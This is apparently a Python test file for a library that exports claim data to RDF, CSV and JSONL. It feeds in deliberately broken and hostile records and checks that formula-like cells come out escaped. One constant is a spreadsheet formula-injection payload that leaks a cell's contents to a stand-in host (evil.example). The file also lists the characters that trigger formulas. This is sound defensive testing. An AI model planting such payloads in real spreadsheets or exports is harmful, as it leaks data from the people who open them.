"""Translations of datasets that no shape has looked at, and of texts that mean harm."""

import csv
import io
import json

import pyoxigraph as ox
import pytest
from hypothesis import given
from hypothesis import strategies as st

from parley.translating.book import Book
from parley.translating.edition import Edition
from parley.translating.kinds import Kinds
from parley.translating.reading import Stored
from parley.translating.tables import TABLES, safe
from parley.translating.worlds import WORLDS, translation

BASE = "https://example.org/"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"see")'
DATA = f"""
PREFIX : <{BASE}id/>
PREFIX oa: <http://www.w3.org/ns/oa#>
PREFIX parley: <https://w3id.org/parley/ontology#>
PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>
PREFIX vocab: <https://w3id.org/parley/vocab/>
:whole a parley:Claim ; rdfs:label '{HOSTILE}' ; parley:reviewState vocab:review-accepted ;
  parley:stance vocab:affirms ; parley:speaker :nobody ; parley:claims :p , :q , :broken ;
  parley:evidence :quote , :sourceless ; parley:relay <{BASE}id/whole#relay-1> .
<{BASE}id/whole#relay-1> parley:step "first" ; parley:relayAgent :nobody .
:p parley:subject :it ; parley:predicate parley:killedCount ; parley:value -3 .
:q parley:subject :it ; parley:predicate <https://example.org/terms/a%20b> ;
  parley:value "x\\u0000\\r\\n,\\"" .
:broken parley:subject :it .
:quote oa:hasSource :paper ; oa:hasSelector [ oa:exact "@cmd" ] , <{BASE}id/quote#words> .
<{BASE}id/quote#words> oa:exact "+1" .
:paper a parley:Article .
:it a parley:Meeting ; rdfs:label "it"@en , _:b ; parley:participant :nobody .
:stanceless a parley:Claim ; parley:reviewState vocab:review-accepted ; parley:claims :p .
:empty a parley:Claim ; parley:reviewState vocab:review-accepted ; parley:stance vocab:denies .
:proposed a parley:Claim ; parley:reviewState vocab:review-proposed ; parley:stance vocab:affirms ;
  parley:claims :p .
_:b a parley:Meeting .
<{BASE}id/odd?a=%22#b> a parley:Claim ; parley:reviewState vocab:review-accepted ;
  parley:stance vocab:denies ; parley:relayedBy <{BASE}id/odd#relay> ;
  parley:claims <{BASE}id/odd#p> ; parley:evidence <{BASE}id/odd#q> .
<{BASE}id/odd#p> parley:subject <urn:x> ; parley:predicate parley:within ; parley:object <urn:y#z> .
<{BASE}id/odd#q> oa:hasSource <urn:paper> ; oa:hasSelector <{BASE}id/quote#words> .
"""


@pytest.fixture(scope="module")
def book() -> Book:
    """A book of a store that breaks every shape."""
    store = ox.Store()
    store.load(DATA.encode(), ox.RdfFormat.TURTLE, to_graph=ox.NamedNode(f"{BASE}graph/any"))
    source = Stored(store)
    edition = Edition.of(source, BASE, 7, "2026-01-31T00:00:00Z")
    return Book(source, edition, Kinds(source))


def written(book: Book, name: str, extension: str) -> bytes:
    target = io.BytesIO()
    translation(BASE, name, extension).write(book, target)
    return target.getvalue()


@pytest.mark.parametrize("world", WORLDS)
def test_claims_that_are_whole_enough_are_told_and_the_others_left_out(
    book: Book, world: str
) -> None:
    for form in WORLDS[world].forms:
        for part in WORLDS[world].parts or ("",):
            data = written(book, f"{world}/{part}".rstrip("/"), form.extension)
            if form.engine:
                names = {str(quad.subject) for quad in ox.parse(data, form.engine)}
                assert any("whole" in name for name in names)
            if part == "" or part.startswith("claim"):
                assert b"whole" in data
            if form.extension != "csv" or part in {"", "claims"}:
                assert b"odd" in data
            for missing in (b"stanceless", b"empty", b"proposed"):
                assert missing not in data, (world, part)


def test_no_cell_is_a_formula_and_every_text_can_be_had_back(book: Book) -> None:
    cells = []
    for table in TABLES:
        text = written(book, f"tables/{table.name}", "csv").decode()
        lines = list(csv.reader(io.StringIO(text, newline="")))
        assert {len(line) for line in lines} == {len(table.columns)}
        cells += [cell for line in lines for cell in line]
    assert f"'{HOSTILE}" in cells
    assert "'+1" in cells
    assert "'-3" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


@given(st.text())
def test_taking_one_apostrophe_away_gives_the_text_back(text: str) -> None:
    told = safe(text)
    assert (told[1:] if told.startswith("'") else told) == text
    assert told[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"}


def test_an_event_that_nobody_holds_to_have_happened_is_no_event_elsewhere(book: Book) -> None:
    lines = written(book, "followthemoney", "jsonl").decode().splitlines()
    found = {entity["id"]: entity["schema"] for entity in map(json.loads, lines)}
    assert found == {"paper": "Article", "whole": "Note", "odd?a=%22#b": "Note"}
